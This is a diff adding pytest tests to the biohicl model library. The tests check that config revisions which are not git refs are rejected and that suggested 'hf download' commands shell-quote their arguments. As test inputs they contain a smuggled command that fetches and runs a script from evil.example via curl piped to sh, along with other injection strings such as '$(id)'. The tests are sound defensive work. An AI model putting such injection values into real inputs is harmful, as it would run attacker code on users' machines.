@@ -5,12 +5,14 @@ its base by Hub id, never a local folder (only an explicit ``base_model_path`` l
 from __future__ import annotations
 
 import json
+import shlex
 from pathlib import Path
 
 import numpy as np
 import pytest
 
-from biohicl.errors import ModelLoadError
+from biohicl.errors import ConfigError, ModelLoadError
+from biohicl.models.config import BioHiCLConfig
 from biohicl.models.model import BioHiCL
 from tests.conftest import build_tiny_bert, save_tiny_adapter_run
 from tests.test_loader import add_to_hub_cache
@@ -87,3 +89,47 @@ def test_a_local_run_folders_absolute_base_still_loads(tmp_path):
     model.save_pretrained(tmp_path / "run")
     assert json.loads((tmp_path / "run" / "biohicl_config.json").read_text())["base_model"] == str(base.resolve())
     assert BioHiCL.from_pretrained(tmp_path / "run").config.kind == "adapter"
+
+
+INJECTED = "main && curl -s https://evil.example/x | sh #"
+
+
+def test_a_base_revision_that_is_no_git_ref_is_refused_when_read(tmp_path):
+    # a downloaded biohicl_config.json's base_revision went unquoted into the offline hint `hf download ... --revision
+    # main && curl ... | sh #`, a command the user is told to run
+    run = save_tiny_adapter_run(tmp_path)
+    edit_json(run / "biohicl_config.json", base_revision=INJECTED)
+    with pytest.raises(ConfigError) as err:
+        BioHiCL.from_pretrained(run, base_model_path=tmp_path / "base")
+    message = str(err.value)
+    assert "\n" not in message and message.startswith(f"{run / 'biohicl_config.json'}: base_revision: {INJECTED!r}")
+    assert "git branch, tag or commit sha" in message
+
+
+@pytest.mark.parametrize("revision", ["main", "v1.0", "refs/pr/1", "release/2024-01_b", "a1b2c3d", "0" * 40])
+def test_a_git_ref_or_sha_is_a_base_revision(revision):
+    assert BioHiCLConfig(base_model="org/base", base_revision=revision).base_revision == revision
+
+
+@pytest.mark.parametrize(
+    "revision", [INJECTED, "main;id", "$(id)", "`id`", "a b", "-x", "/main", "main/", "a..b", "a//b", "x.lock", ""]
+)
+def test_what_is_no_git_ref_is_no_base_revision(revision):
+    with pytest.raises(ConfigError, match=r"base_revision: .* is not a git branch, tag or commit sha"):
+        BioHiCLConfig(base_model="org/base", base_revision=revision)
+
+
+def test_the_fetch_hints_quote_what_they_carry(hub_cache):
+    # whatever a file or a flag puts in a revision or an id, the command the message offers runs only hf download
+    from biohicl.models.resolver import download_snapshot, resolve_base
+
+    with pytest.raises(ModelLoadError) as err:
+        download_snapshot("org/base", INJECTED)
+    assert f"`hf download org/base --revision {shlex.quote(INJECTED)}`" in str(err.value)
+    with pytest.raises(ModelLoadError) as err:
+        resolve_base("base && id")
+    assert "`hf download 'base && id' --revision main`" in str(err.value)
+    with pytest.raises(ModelLoadError) as err:
+        resolve_base("base@main && id")
+    assert "--base_model base --base_revision 'main && id'" in str(err.value)
+    assert '(revision="main && id" in Python)' in str(err.value)
